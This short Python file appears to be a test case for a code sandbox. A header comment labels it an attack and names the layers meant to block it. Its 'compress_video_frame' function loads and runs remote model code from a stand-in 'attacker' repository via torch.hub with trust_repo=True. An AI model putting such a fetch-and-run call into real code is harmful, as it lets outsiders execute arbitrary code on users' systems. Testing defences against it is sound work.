# ATTACK: download and run someone else's model code with torch.hub.
# Layers: static check (attribute `hub`); audit hook (sockets, subprocess); bubblewrap (no network).
import numpy as np
import torch


def compress_video_frame(frame, frame_index, config):
    model = torch.hub.load("attacker/codec-helpers", "encoder", trust_repo=True)
    return bytes(model(frame))


def decompress_video_frame(compressed_data, frame_index, config):
    return np.zeros((config["height"], config["width"], 3), np.uint8)
